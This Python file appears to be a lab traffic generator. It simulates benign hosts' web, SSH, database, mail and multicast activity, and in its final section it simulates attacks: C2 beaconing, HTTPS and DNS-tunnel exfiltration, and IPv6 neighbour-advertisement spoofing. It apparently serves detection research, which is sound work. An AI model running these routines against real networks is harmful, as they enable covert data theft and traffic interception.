"""Clients run inside the lab's namespaces, one process per host.

  python3 clients.py host --config HOST.json
      One benign host for up to max_seconds (or until SIGTERM): a persona (office, developer, media,
      iot, app) whose sessions (web pages over HTTP/1.1 keep-alive and TLS with HTTP/2, downloads,
      long streams, SSH sessions and scp, database sessions, mail, MQTT) follow each other with
      think times, under an activity level that changes every few minutes (quiet, normal, busy);
      plus background chatter: DNS lookups through the resolver, multicast (mDNS, SSDP, LLMNR), a
      latency monitor's pings. Every choice is drawn from random.Random(seed).
  python3 clients.py exfil --victim IP --port P --seconds S --seed N
      One TCP connection sending 200-600 bytes every second for S seconds.
  python3 clients.py beacon --url URL --resolve R --interval S --jitter F --seconds S --seed N
      Command-and-control beaconing: an HTTPS GET every S * (1 +- F) seconds.
  python3 clients.py https-exfil --url URL --resolve R --seconds S --seed N
      Small HTTPS uploads (300-2000 bytes of encoded data) every 8-25 s.
  python3 clients.py dns-exfil --resolver IP --zone Z --seconds S --seed N
      A file's bytes, base32-encoded into the labels of A queries for names in zone Z (a zone the
      attacker's server answers), one query every 1-4 s, through the network's resolver.
  /usr/bin/python3 clients.py nd-spoof --iface DEV --src6 A --target6 T --mac M --seconds S
      Unsolicited neighbour advertisements (override flag) to all nodes claiming that T is at M
      (scapy), one a second.
"""
import argparse
import base64
import http.client
import json
import os
import random
import signal
import smtplib
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

stop = threading.Event()
BROWSER_UA = ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/120.0 Safari/537.36")


BROWSER_HEADERS = {"User-Agent": BROWSER_UA, "Accept": "text/html,application/xhtml+xml,*/*;q=0.8",
                   "Accept-Language": "en-GB,en;q=0.9", "Accept-Encoding": "identity",
                   "Connection": "keep-alive"}


class LabHttps(http.client.HTTPSConnection):
    """HTTPS to a lab address under a site name (SNI and Host), without checking the lab's
    self-signed certificate; HTTP/1.1 by ALPN."""

    def __init__(self, addr, name, timeout):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["http/1.1"])
        super().__init__(name, 443, timeout=timeout, context=ctx)
        self.addr = addr

    def connect(self):
        sock = socket.create_connection((self.addr, 443), self.timeout)
        self.sock = self._context.wrap_socket(sock, server_hostname=self.host)


def run(cmd, timeout, **kw):
    """Runs a client command, bounded; returns its exit code (None when stopped at the bound)."""
    if stop.is_set():
        return None
    try:
        p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             start_new_session=False, **kw)
    except OSError:
        return None
    deadline = time.time() + timeout
    while p.poll() is None:
        if stop.is_set() or time.time() > deadline:
            p.terminate()
            try:
                p.wait(3)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
            return None
        time.sleep(0.1)
    return p.returncode


def dns_query(name, qid, qtype=1):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return (struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + b"\x00"
            + struct.pack("!HH", qtype, 1))


def resolve(server, name, rng, qtype=1, timeout=2.0):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        try:
            s.sendto(dns_query(name, rng.getrandbits(16), qtype), (server, 53))
            return s.recv(1500)
        except OSError:
            return None


# --- a benign host ----------------------------------------------------------------------------

PERSONAS = {  # session kinds and their weights, mean think time between sessions (s)
    "office": ({"web_https": 5, "web_http": 2, "mail": 2, "imap": 1.5, "download": 0.3,
                "ssh": 0.3, "api": 0.5}, 25),
    "developer": ({"ssh": 3, "scp": 1.5, "web_https": 2, "web_http": 1, "db": 1, "download": 0.5,
                   "mail": 0.5, "imap": 0.5}, 30),
    "media": ({"stream": 2, "download": 1.2, "web_https": 2, "web_http": 1}, 35),
    "iot": ({"api": 2, "web_http": 0.5}, 60),
    "app": ({"db": 4, "api": 2, "mail": 1, "web_http": 1}, 12),
}
LEVELS = [(0.3, 0.3), (1.0, 0.5), (2.5, 0.2)]  # (rate multiplier, probability): quiet/normal/busy
NAMES = ["intranet.lab", "www.lab", "mail.lab", "files.lab", "api.lab", "db.lab", "cdn.lab",
         "media.lab", "git.lab", "wiki.lab", "updates.lab", "nowhere.invalid", "printer.local.lab",
         "time.lab", "broker.lab"]
SHELL_COMMANDS = ["uptime", "ls -la /tmp | head", "df -h", "free -m", "ps aux | head -20",
                  "cat /proc/loadavg", "uname -a", "ip -br addr", "date", "who", "id",
                  "top -b -n 1 | head -15", "echo $SHELL", "ls /usr/bin | wc -l"]


class Host:
    def __init__(self, c):
        self.c = c
        self.name = c["name"]
        self.rng = random.Random(c["seed"])
        self.deadline = time.time() + c["max_seconds"]
        self.level = 1.0
        self.tmp = c["tmp"]
        self.addr6 = None
        self.ssh_opts = ["-i", c["ssh_key"], "-F", "/dev/null", "-o", "StrictHostKeyChecking=no",
                         "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o",
                         "ConnectTimeout=10", "-o", "LogLevel=ERROR"]

    def alive(self):
        return not stop.is_set() and time.time() < self.deadline

    def wait(self, seconds):
        stop.wait(max(0.0, min(seconds, self.deadline - time.time())))
        return self.alive()

    def wait_for_slaac(self, seconds=15):
        """The host's global IPv6 address from the router advertisements (None if none came)."""
        end = time.time() + seconds
        while time.time() < end and not stop.is_set():
            out = subprocess.run(["ip", "-6", "-o", "addr", "show", "dev", "eth0", "scope",
                                  "global", "-tentative"], capture_output=True, text=True).stdout
            for line in out.splitlines():
                addr = line.split()[3].split("/")[0]
                if addr.startswith("fd77:"):
                    return addr
            time.sleep(0.5)
        return None

    # which addresses this host talks to
    def server(self, v4, v6):
        """IPv6 on hosts that prefer it, and for a third of the other dual-stack hosts' sessions."""
        if self.addr6 and v6 and (self.c["prefer_v6"] or self.rng.random() < 0.3):
            return v6
        return v4

    def resolver(self):
        return self.server(self.c["resolver"], self.c["resolver6"])

    def lookup(self, name):
        """A stub resolver's lookup before a connection: A, and AAAA on dual-stack hosts."""
        resolve(self.resolver(), name, self.rng, 1)
        if self.addr6:
            resolve(self.resolver(), name, self.rng, 28)

    def url_host(self, addr):
        return f"[{addr}]" if ":" in addr else addr

    # --- sessions ---------------------------------------------------------------------------

    def web_http(self):
        """A few pages from the HTTP server: as a browser (60 %: pages on a kept-alive connection
        with reading pauses, idle before it closes) or as curl (several objects per connection,
        closed right after the last one)."""
        self.lookup("www.lab")
        victim = self.c["victim"]
        if self.rng.random() < 0.6:
            pages = []
            for _ in range(self.rng.randint(1, 5)):
                pages.append(["/"] + [f"/size/{self.object_size()}"
                                      for _ in range(self.rng.randint(0, 11))])
            self.browse(lambda: http.client.HTTPConnection(victim, 80, timeout=30), pages,
                        lambda n: [f"/size/{self.rng.randint(40, 6000)}" for _ in range(n)])
            return
        for _ in range(self.rng.randint(1, 5)):
            urls = []
            for _ in range(self.rng.randint(1, 12)):
                urls += [f"http://{victim}/size/{self.object_size()}"
                         if self.rng.random() < 0.85 else f"http://{victim}/", "-o", "/dev/null"]
            run(["curl", "-s", "--max-time", "30", "-A", BROWSER_UA] + urls, 35)
            if not self.wait(self.rng.uniform(2, 20)):
                return

    def object_size(self):
        u = self.rng.random()
        return (self.rng.randint(300, 4000) if u < 0.6 else
                self.rng.randint(4000, 60000) if u < 0.9 else self.rng.randint(60000, 500000))

    def fetch(self, conn, path, headers=BROWSER_HEADERS):
        """One GET on conn; False when it failed (the connection is then closed)."""
        try:
            conn.request("GET", path, headers=headers)
            conn.getresponse().read()
            return True
        except (OSError, http.client.HTTPException):
            conn.close()
            return False

    def third_party(self, connect, paths):
        """Objects a page pulls from other sites (a CDN, analytics, an ad): a new connection for
        one or two of them, then closed, by the server (the request asks for it, as HTTP/1.0-style
        clients and many APIs do) or by the browser after a short idle."""
        conn = connect()
        close = self.rng.random() < 0.5
        headers = dict(BROWSER_HEADERS, Connection="close") if close else BROWSER_HEADERS
        try:
            for path in paths:
                if not self.fetch(conn, path, headers) or close:
                    return
            stop.wait(self.rng.uniform(0.1, 3))
        finally:
            conn.close()

    def browse(self, connect, pages, third_party_paths):
        """Page views the way a browser makes them: each page's objects one after another on one
        kept-alive HTTP/1.1 connection, 0-4 objects from other sites on connections of their own
        (third_party), a reading pause between pages, and after the last page the connection left
        idle until the browser drops it (1-110 s) or the server times it out. A page that finds
        the connection closed by the server opens a new one, as a browser does."""
        idle_limit = self.rng.choice([self.rng.uniform(1, 6), self.rng.uniform(6, 30),
                                      self.rng.uniform(30, 110)])
        conn = None
        try:
            for i, paths in enumerate(pages):
                for path in paths:
                    for attempt in (0, 1):
                        if conn is None:
                            conn = connect()
                        if self.fetch(conn, path):
                            break
                        conn = None
                        if attempt:
                            return
                    if not self.alive():
                        return
                for _ in range(self.rng.choice([0, 0, 1, 2, 3, 4])):
                    self.third_party(connect, third_party_paths(self.rng.randint(1, 2)))
                    if not self.alive():
                        return
                reading = self.rng.lognormvariate(1.5, 0.9)  # median 4.5 s
                if i + 1 < len(pages):
                    if reading > idle_limit:  # the browser dropped the idle connection meanwhile
                        if not self.wait(idle_limit):
                            return
                        conn.close()
                        conn = None
                        reading -= idle_limit
                    if not self.wait(reading):
                        return
            self.wait(idle_limit)
        finally:
            if conn is not None:
                conn.close()

    def web_https(self):
        """Page views on the TLS intranet site like a browser: the page, then its assets over
        HTTP/2 (multiplexed, curl) or HTTP/1.1 keep-alive (a browser's connection with idle time,
        browse()); a few views per visit."""
        self.lookup("intranet.lab")
        addr = self.server(self.c["victim"], self.c["victim6"])
        h2 = self.rng.random() < 0.75
        views = self.rng.randint(1, 8)
        if not h2:
            pages = [["/"] + self.rng.sample(self.c["assets"], self.rng.randint(3, 14))
                     for _ in range(views)]
            self.browse(lambda: LabHttps(addr, "intranet.lab", timeout=30), pages,
                        lambda n: self.rng.sample(self.c["assets"], n))
            return
        for _ in range(views):
            assets = self.rng.sample(self.c["assets"], self.rng.randint(3, 14))
            cmd = ["curl", "-sk", "--max-time", "40", "-A", BROWSER_UA, "--resolve",
                   f"intranet.lab:443:{self.url_host(addr)}", "--http2", "--parallel",
                   "--parallel-max", "6"]
            for path in ["/"] + assets:
                cmd += [f"https://intranet.lab{path}", "-o", "/dev/null"]
            run(cmd, 45)
            if not self.wait(self.rng.expovariate(1 / 15)):
                return

    def api(self):
        """An application polling a JSON API over TLS, on one connection."""
        addr = self.server(self.c["victim"], self.c["victim6"])
        self.lookup("api.lab")
        cmd = ["curl", "-sk", "--max-time", "20", "-A", "app-agent/2.1", "--resolve",
               f"api.lab:443:{self.url_host(addr)}"]
        for _ in range(self.rng.randint(1, 6)):
            cmd += ["https://api.lab/api/status.json", "-o", "/dev/null"]
        run(cmd, 25)

    def download(self):
        """A large download (an update, a dataset) over TLS; the link's rate limit paces it."""
        name = self.rng.choice(["update-64M.bin", "dataset-16M.csv", "manual-4M.pdf",
                                "dataset-16M.csv", "manual-4M.pdf"])
        addr = self.server(self.c["victim"], self.c["victim6"])
        self.lookup("files.lab")
        run(["curl", "-sk", "--max-time", "150", "--limit-rate", "6M", "--resolve",
             f"files.lab:443:{self.url_host(addr)}", f"https://files.lab/files/{name}", "-o",
             "/dev/null"], 155)

    def stream(self):
        """A long-lived stream (~1.5 Mbit/s, server-paced) for 1-5 minutes."""
        addr = self.server(self.c["victim"], self.c["victim6"])
        self.lookup("media.lab")
        seconds = self.rng.uniform(60, 300)
        run(["curl", "-sk", "--max-time", f"{seconds:.0f}", "--resolve",
             f"media.lab:443:{self.url_host(addr)}", "https://media.lab/stream/video-256M.mp4",
             "-o", "/dev/null"], seconds + 5)

    def ssh(self):
        """An interactive SSH session: commands typed a key at a time (each echoed by the remote
        terminal), output, pauses to read."""
        addr = self.server(self.c["victim"], self.c["victim6"])
        try:
            p = subprocess.Popen(["ssh", "-tt"] + self.ssh_opts + [f"root@{addr}"],
                                 stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL)
        except OSError:
            return
        try:
            self.wait(1.5)
            for cmd in self.rng.sample(SHELL_COMMANDS, self.rng.randint(2, 8)):
                for ch in cmd + "\n":
                    if p.poll() is not None or not self.alive():
                        return
                    p.stdin.write(ch.encode())
                    p.stdin.flush()
                    stop.wait(self.rng.uniform(0.05, 0.35))
                if not self.wait(self.rng.uniform(1, 20)):
                    return
            p.stdin.write(b"exit\n")
            p.stdin.flush()
            p.wait(10)
        except (OSError, subprocess.TimeoutExpired):
            pass
        finally:
            if p.poll() is None:
                p.terminate()
                p.wait(5)

    def scp(self):
        """An scp upload or download of 1-20 MB."""
        addr = self.server(self.c["victim"], self.c["victim6"])
        local = os.path.join(self.tmp, f"scp-{self.name}.bin")
        remote = f"{self.c['scp_dir']}/{self.name}.bin"
        target = f"root@{self.url_host(addr)}:{remote}"
        if self.rng.random() < 0.5 or not os.path.exists(local):
            with open(local, "wb") as f:
                f.write(self.rng.randbytes(self.rng.randint(1, 20) << 20))
            run(["scp", "-q", "-l", "40000"] + self.ssh_opts + [local, target], 120)
        else:
            run(["scp", "-q", "-l", "40000"] + self.ssh_opts + [target, local], 120)

    def db(self):
        """A database session: one connection, a few queries with application pauses."""
        env = dict(os.environ, PGPASSWORD=self.c["db_password"], PGCONNECT_TIMEOUT="10")
        addr = self.server(self.c["services"], self.c["services6"])
        try:
            p = subprocess.Popen(["psql", "-X", "-q", "-h", addr, "-U", "lab", "-d", "postgres"],
                                 stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL, env=env)
        except OSError:
            return
        try:
            p.stdin.write(b"CREATE TABLE IF NOT EXISTS orders(id serial primary key, host text, "
                          b"item int, qty int, at timestamptz default now());\n")
            for _ in range(self.rng.randint(2, 15)):
                q = self.rng.random()
                if q < 0.4:
                    sql = (f"INSERT INTO orders(host,item,qty) VALUES ('{self.name}',"
                           f"{self.rng.randint(1, 500)},{self.rng.randint(1, 9)});\n")
                elif q < 0.8:
                    sql = (f"SELECT * FROM orders WHERE item > {self.rng.randint(1, 500)} "
                           f"ORDER BY at DESC LIMIT {self.rng.randint(5, 200)};\n")
                else:
                    sql = "SELECT host, count(*), sum(qty) FROM orders GROUP BY host;\n"
                p.stdin.write(sql.encode())
                p.stdin.flush()
                if not self.wait(self.rng.uniform(0.2, 4)):
                    break
            p.stdin.close()
            p.wait(15)
        except (OSError, subprocess.TimeoutExpired):
            pass
        finally:
            if p.poll() is None:
                p.terminate()
                p.wait(5)

    def mail(self):
        """Sends a message (sometimes with an attachment) to the SMTP server."""
        addr = self.server(self.c["services"], self.c["services6"])
        body = "Hello,\n\n" + "the report is attached.\n" * self.rng.randint(5, 400)
        if self.rng.random() < 0.3:
            attachment = self.rng.randbytes(self.rng.randint(10_000, 300_000))
            body += "\n" + base64.encodebytes(attachment).decode()
        msg = (f"From: {self.name}@lab\r\nTo: team@lab\r\n"
               f"Subject: update {self.rng.randint(1, 9999)}\r\n\r\n{body}")
        try:
            with smtplib.SMTP(addr, 25, timeout=20) as s:
                s.ehlo(f"{self.name}.lab")
                s.sendmail(f"{self.name}@lab", ["team@lab"], msg)
        except (OSError, smtplib.SMTPException):
            pass

    def imap(self):
        """A mail client's check: log in, list, select the inbox, search, log out."""
        import imaplib
        addr = self.server(self.c["services"], self.c["services6"])
        try:
            m = imaplib.IMAP4(addr, 143, timeout=20)
            m.login(self.c["mail_user"], self.c["mail_password"])
            m.list()
            m.select("INBOX")
            m.search(None, "ALL")
            m.logout()
        except (OSError, imaplib.IMAP4.error):
            pass

    # --- background chatter -----------------------------------------------------------------

    def dns_chatter(self):
        rng = random.Random(self.c["seed"] + 1)
        while self.wait(rng.expovariate(1 / self.c["dns_mean_s"]) / self.level):
            name = rng.choice(NAMES)
            resolve(self.resolver(), name, rng, 1)
            if self.addr6 and rng.random() < 0.7:
                resolve(self.resolver(), name, rng, 28)

    def multicast_chatter(self):
        """mDNS queries and announcements, SSDP searches, LLMNR queries, over IPv4 and IPv6."""
        rng = random.Random(self.c["seed"] + 2)
        addr4 = self.c["addr"]
        ifindex = socket.if_nametoindex("eth0")
        # On joining the link a host announces its name (mDNS) and looks for devices (SSDP), as
        # desktops and phones do; afterwards the chatter comes at random.
        joining = [0.5, 0.7]
        while self.wait(rng.uniform(0.5, 4) if joining else rng.uniform(5, 90)):
            what = joining.pop(0) if joining else rng.random()
            if what < 0.45:
                svc = rng.choice(["_services._dns-sd._udp.local", "_ipp._tcp.local",
                                  "_googlecast._tcp.local", "_airplay._tcp.local",
                                  "_printer._tcp.local", "_ssh._tcp.local"])
                payload, dst, dst6, port = dns_query(svc, 0, 12), "224.0.0.251", "ff02::fb", 5353
            elif what < 0.6:
                name = f"{self.name}.local"
                labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
                payload = (struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0) + labels
                           + struct.pack("!HHIH4s", 1, 0x8001, 120, 4, socket.inet_aton(addr4)))
                dst, dst6, port = "224.0.0.251", "ff02::fb", 5353
            elif what < 0.85:
                target = rng.choice(["ssdp:all", "upnp:rootdevice",
                                     "urn:dial-multiscreen-org:service:dial:1"])
                payload = ("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
                           f"MAN: \"ssdp:discover\"\r\nMX: 2\r\nST: {target}\r\n\r\n").encode()
                dst, dst6, port = "239.255.255.250", "ff02::c", 1900
            else:
                payload = dns_query(rng.choice(["wpad", "fileserver", "nas", "printer"]),
                                    rng.getrandbits(16))
                dst, dst6, port = "224.0.0.252", "ff02::1:3", 5355
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr4))
                    ttl = 255 if port == 5353 else 1
                    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
                    s.bind((addr4, 5353 if port == 5353 else 0))
                    s.sendto(payload, (dst, port))
                if self.addr6 and (joining or rng.random() < 0.6):
                    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, ifindex)
                        s.sendto(payload, (dst6, port, 0, ifindex))
            except OSError:
                pass

    def monitor_pings(self):
        """A latency monitor's pings to the server (two a second): the lab measures each link's
        round-trip time and upstream loss from them in the capture."""
        run(["ping", "-n", "-q", "-i", "0.5", "-W", "2", "-w", f"{self.c['max_seconds']:.0f}",
             self.c["victim"]], self.c["max_seconds"] + 5)

    def mqtt(self):
        """A sensor: a long-lived subscription to its commands, a reading published every 5-30 s."""
        svc = self.server(self.c["services"], self.c["services6"])
        rng = random.Random(self.c["seed"] + 3)
        sub = None
        try:
            sub = subprocess.Popen(["mosquitto_sub", "-h", svc, "-t", f"cmd/{self.name}/#", "-t",
                                    "alerts/#", "-k", "30", "-i", f"{self.name}-sub"],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError:
            return
        try:
            while self.wait(rng.uniform(1, 5)) and self.wait(rng.uniform(0, 25) / self.level):
                reading = json.dumps({"t": round(rng.gauss(21, 2), 2), "h": rng.randint(30, 60),
                                      "seq": rng.getrandbits(20)})
                run(["mosquitto_pub", "-h", svc, "-t", f"sensors/{self.name}/env", "-q",
                     str(rng.choice([0, 1])), "-m", reading], 15)
        finally:
            sub.terminate()
            sub.wait(5)

    def echo_session(self):
        """The legacy terminal-like session on the echo port (small keystrokes, each echoed)."""
        rng = random.Random(self.c["seed"] + 4)
        try:
            with socket.create_connection((self.c["victim"], 7), timeout=5) as s:
                while self.alive():
                    keys = bytes(rng.choice(b"abcdefghijklmnopqrstuvwxyz \n")
                                 for _ in range(rng.randint(1, 40)))
                    s.sendall(keys)
                    got = 0
                    while got < len(keys):
                        chunk = s.recv(4096)
                        if not chunk:
                            return
                        got += len(chunk)
                    stop.wait(rng.uniform(0.1, 2.0))
        except OSError:
            pass

    def sessions(self, rng):
        weights, think = PERSONAS[self.c["persona"]]
        available = {k: w for k, w in weights.items() if k in self.c["services_up"]}
        kinds, w = list(available), list(available.values())
        while self.alive() and kinds:
            getattr(self, rng.choices(kinds, w)[0])()
            if not self.wait(rng.expovariate(1 / think) / self.level):
                return

    def levels(self):
        rng = random.Random(self.c["seed"] + 5)
        while True:
            self.level = rng.choices([lv for lv, _ in LEVELS], [p for _, p in LEVELS])[0]
            if not self.wait(rng.uniform(60, 300)):
                return

    def main(self):
        if self.c["ipv6"]:
            self.addr6 = self.wait_for_slaac()
        # What a host does when it comes up: an application's update check, a mail client's check.
        self.api() if "api" in self.c["services_up"] else self.web_http()
        if self.c["persona"] in ("office", "developer") and "imap" in self.c["services_up"]:
            self.imap()
        if self.c["persona"] == "app" and "mail" in self.c["services_up"]:
            self.mail()  # "service started" notification
        loops = [self.levels, self.dns_chatter, self.multicast_chatter]
        if self.c["monitor_pings"]:
            loops.append(self.monitor_pings)
        if self.c["persona"] == "iot" and "mqtt" in self.c["services_up"]:
            loops.append(self.mqtt)
        if self.c.get("echo_session"):
            loops.append(self.echo_session)
        for i in range(self.c["session_threads"]):
            rng = random.Random(self.c["seed"] + 10 + i)
            loops.append(lambda rng=rng: self.sessions(rng))
        threads = [threading.Thread(target=f, daemon=True) for f in loops]
        for t in threads:
            t.start()
        while self.alive():
            stop.wait(0.5)
        stop.set()
        for t in threads:
            t.join(20)


# --- attacks ----------------------------------------------------------------------------------

def exfil(victim, port, seconds, rng):
    with socket.create_connection((victim, port), timeout=5) as s:
        end = time.time() + seconds
        while not stop.is_set() and time.time() < end:
            s.sendall(bytes(rng.getrandbits(8) for _ in range(rng.randint(200, 600))))
            stop.wait(1.0)


def lookup_first(resolver, resolve_to, rng):
    """The name lookup through the network's resolver that precedes a connection."""
    if resolver:
        resolve(resolver, resolve_to.split(":")[0], rng)


def beacon(url, resolve_to, interval, jitter, seconds, rng, resolver=None):
    end = time.time() + seconds
    host_id = "%08x" % rng.getrandbits(32)
    while not stop.is_set() and time.time() < end:
        lookup_first(resolver, resolve_to, rng)
        run(["curl", "-sk", "--max-time", "10", "-A", BROWSER_UA, "--resolve", resolve_to,
             f"{url}?id={host_id}&n={rng.getrandbits(16)}", "-o", "/dev/null"], 12)
        stop.wait(max(0.5, min(interval * (1 + rng.uniform(-jitter, jitter)), end - time.time())))


def https_exfil(url, resolve_to, seconds, rng, resolver=None):
    end = time.time() + seconds
    while not stop.is_set() and time.time() < end:
        lookup_first(resolver, resolve_to, rng)
        data = base64.b64encode(rng.randbytes(rng.randint(220, 1500)))
        run(["curl", "-sk", "--max-time", "10", "-A", BROWSER_UA, "--resolve", resolve_to, "-H",
             "Content-Type: application/octet-stream", "--data-binary", data.decode(), url, "-o",
             "/dev/null"], 12)
        stop.wait(max(0.5, min(rng.uniform(8, 25), end - time.time())))


def dns_exfil(resolver, zone, seconds, rng):
    secret = rng.randbytes(64 * 1024)
    encoded = base64.b32encode(secret).decode().rstrip("=").lower()
    session = "%04x" % rng.getrandbits(16)
    end, off, seq = time.time() + seconds, 0, 0
    while not stop.is_set() and time.time() < end and off < len(encoded):
        n = rng.randint(30, 60)
        chunk, off = encoded[off:off + n], off + n
        resolve(resolver, f"{chunk}.{seq}.{session}.{zone}", rng)
        seq += 1
        stop.wait(max(0.2, min(rng.uniform(1, 4), end - time.time())))


def nd_spoof(iface, src6, target6, mac, seconds):
    from scapy.all import ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IPv6, Ether, conf, sendp
    conf.verb = 0
    frame = (Ether(src=mac, dst="33:33:00:00:00:01") / IPv6(src=src6, dst="ff02::1", hlim=255)
             / ICMPv6ND_NA(tgt=target6, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac))
    end = time.time() + seconds
    while not stop.is_set() and time.time() < end:
        sendp(frame, iface=iface)
        stop.wait(1.0)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    h = sub.add_parser("host")
    h.add_argument("--config", required=True)
    e = sub.add_parser("exfil")
    e.add_argument("--victim", required=True)
    e.add_argument("--port", type=int, required=True)
    b = sub.add_parser("beacon")
    b.add_argument("--url", required=True)
    b.add_argument("--resolve", required=True)
    b.add_argument("--interval", type=float, required=True)
    b.add_argument("--jitter", type=float, required=True)
    x = sub.add_parser("https-exfil")
    x.add_argument("--url", required=True)
    x.add_argument("--resolve", required=True)
    for q in (b, x):
        q.add_argument("--resolver", help="look the name up through this resolver first")
    d = sub.add_parser("dns-exfil")
    d.add_argument("--resolver", required=True)
    d.add_argument("--zone", required=True)
    n = sub.add_parser("nd-spoof")
    n.add_argument("--iface", required=True)
    n.add_argument("--src6", required=True)
    n.add_argument("--target6", required=True)
    n.add_argument("--mac", required=True)
    for q in (e, b, x, d, n):
        q.add_argument("--seconds", type=float, required=True)
        q.add_argument("--seed", type=int, default=1)
    args = p.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    if args.cmd == "host":
        with open(args.config) as f:
            Host(json.load(f)).main()
        return 0
    rng = random.Random(args.seed)
    if args.cmd == "exfil":
        exfil(args.victim, args.port, args.seconds, rng)
    elif args.cmd == "beacon":
        beacon(args.url, args.resolve, args.interval, args.jitter, args.seconds, rng, args.resolver)
    elif args.cmd == "https-exfil":
        https_exfil(args.url, args.resolve, args.seconds, rng, args.resolver)
    elif args.cmd == "dns-exfil":
        dns_exfil(args.resolver, args.zone, args.seconds, rng)
    elif args.cmd == "nd-spoof":
        nd_spoof(args.iface, args.src6, args.target6, args.mac, args.seconds)
    return 0


if __name__ == "__main__":
    sys.exit(main())
